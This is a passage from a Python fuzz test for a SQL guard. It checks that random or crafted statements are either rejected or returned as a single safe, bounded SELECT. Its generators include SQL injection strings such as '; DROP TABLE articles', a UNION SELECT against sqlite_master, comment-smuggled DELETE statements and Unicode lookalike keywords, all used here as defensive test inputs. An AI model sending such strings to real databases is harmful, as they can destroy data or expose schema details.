                "date(published_date)", "replace(title, ' ', '_')", "trim(title)", "abs(word_count)",
                "CASE WHEN word_count > 200 THEN 'long' ELSE 'short' END", "CAST(word_count AS TEXT)",
                "nullif(authors, '')", "title || ' - ' || authors",
                "ROW_NUMBER() OVER (ORDER BY word_count)"]  # fmt: skip
WHERE_CLAUSES = ["", " WHERE word_count > 100", " WHERE title LIKE '%a%'", " WHERE authors IS NOT NULL",
                 " WHERE published_date BETWEEN '2023-01-01' AND '2023-12-31'",
                 " WHERE article_category IN ('tech', 'food') OR word_count < 300",
                 " WHERE url IN (SELECT url FROM articles WHERE word_count > 1)"]  # fmt: skip
TAILS = ["", " ORDER BY 1", " ORDER BY 1 DESC LIMIT 3", " LIMIT 5000", " LIMIT 10 OFFSET 2", " GROUP BY 1",
         " -- done"]  # fmt: skip
COMPOSED_SQL = st.builds(
    "SELECT {}{} FROM articles{}{}".format,
    st.one_of(st.sampled_from(SELECT_ITEMS), st.sampled_from(CALLS)),
    st.sampled_from(["", ", title", ", COUNT(*)", ", lower(authors)"]),
    st.sampled_from(WHERE_CLAUSES),
    st.sampled_from(TAILS),
)
PUNCTUATION = [";", ",", "(", ")", "=", ">", "'", '"', "*", ".", "1", "0", "'x'", "--", "/*", "*/", "/**/",
               "\n", "\t", " ", "||", "`"]
# Cyrillic Е, fullwidth DROP / SELECT, no-break and zero-width spaces, long s, fullwidth ;, ’, Dž
LOOKALIKES = ["S\u0415LECT", "D\u0415LETE", "\uff24\uff32\uff2f\uff30",
              "\uff33\uff25\uff2c\uff25\uff23\uff34",
              "\u00a0", "\u200b", "\u017felect", "\uff1b", "\u2019", "ＤＥＬ/**/ＥＴＥ", "\u01c5"]
FRAGMENT = st.one_of(
    st.sampled_from(VERBS + TABLES + COLUMN_NAMES + CALLS + PUNCTUATION + LOOKALIKES),
    st.text(max_size=6),
)
SEPARATOR = st.sampled_from([" ", " ", "", "\n", "/**/", ";"])
TEMPLATE_SQL = st.builds(
    "SELECT {} FROM {}{}{}".format,
    st.sampled_from(COLUMN_NAMES + CALLS),
    st.sampled_from(TABLES),
    st.sampled_from(["", " WHERE word_count > 1", " WHERE url IN (SELECT url FROM articles)",
                     " GROUP BY title", " ORDER BY 1 DESC"]),
    st.sampled_from(["", " LIMIT 5", " LIMIT 5000", " LIMIT ?", "; DROP TABLE articles", ";",
                     " UNION SELECT sql FROM sqlite_master", " -- */; DELETE FROM articles; /*"]),
)  # fmt: skip


@st.composite
def statements(draw: st.DrawFn) -> str:
    """Random fragment soup, templates, accepted queries with a fragment spliced in or their case and spacing
    changed, and queries composed from allowed and refused parts."""
    kind = draw(st.sampled_from(["soup", "template", "splice", "splice", "respell", "compose", "compose"]))
    if kind == "template":
        return draw(TEMPLATE_SQL)
    if kind == "compose":
        return draw(COMPOSED_SQL)
    if kind == "respell":
        words = draw(st.sampled_from(ACCEPTED)).split(" ")
        cases = draw(st.lists(st.sampled_from([str.lower, str.upper, str]), min_size=len(words),
                              max_size=len(words)))
        glue = draw(st.lists(st.sampled_from([" ", "  ", "\n", "/**/", " /* x */ ", "\t"]), min_size=len(words),
                             max_size=len(words)))
        # case changes stay out of quoted strings and identifiers, whose meaning they would change
        return "".join((word if ("'" in word or '"' in word) else case(word)) + sep
                       for word, case, sep in zip(words, cases, glue, strict=True)).strip()
    if kind == "splice":
        base = draw(st.sampled_from(ACCEPTED))
        at = draw(st.integers(0, len(base)))
        return base[:at] + draw(SEPARATOR) + draw(FRAGMENT) + draw(SEPARATOR) + base[at:]
    parts = draw(st.lists(st.tuples(FRAGMENT, SEPARATOR), min_size=1, max_size=16))
    return "".join(fragment + separator for fragment, separator in parts)


def test_fuzz_guard_either_rejects_or_returns_a_single_safe_select(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Random statements: each is rejected with UnsafeSQL, or comes back as one bounded SELECT with only safe
    functions that leaves a WRITABLE database unchanged. Enough of them must be accepted for that to mean
    something (CI runs a fixed, derandomized sequence: see conftest.py)."""
    monkeypatch.chdir(tmp_path)
    db = make_articles_db(tmp_path / "articles.db")
    before = sha256(db)
    accepted = {"sqlite": 0, "postgres": 0}

    @settings(max_examples=500, deadline=None)
    @given(sql=statements(), dialect=st.sampled_from(["sqlite", "postgres"]))
    def check(sql: str, dialect: str) -> None:
        accepted["tried"] = accepted.get("tried", 0) + 1
        try:
            guarded = guard(sql, dialect=dialect, max_rows=100)
        except UnsafeSQL:
            return  # any other exception type fails the test
        accepted[dialect] += 1
        assert_safe_output(guarded.sql, dialect, max_rows=100)
        if dialect == "sqlite":
            run_on_writable(db, guarded.sql)  # a write would show in the hash
            assert sha256(db) == before, guarded.sql

    check()
    # About 45% of the ~250 sqlite statements are accepted and 11% of the postgres ones (which lacks strftime and
    # date()): ~28 on average, so the floor is 15, three standard deviations below (30 failed outside CI at 27).
    assert accepted["tried"] >= 500 and accepted["sqlite"] >= 30 and accepted["postgres"] >= 15, accepted
    assert sorted(path.name for path in tmp_path.iterdir()) == ["articles.db"]


def test_fuzzing_is_derandomized_in_ci() -> None:
    """conftest.py registers a "ci" profile and loads it under CI=true: the same examples on every run."""
    assert settings.get_profile("ci").derandomize
    assert settings.default.derandomize == (os.environ.get("CI", "").lower() == "true")
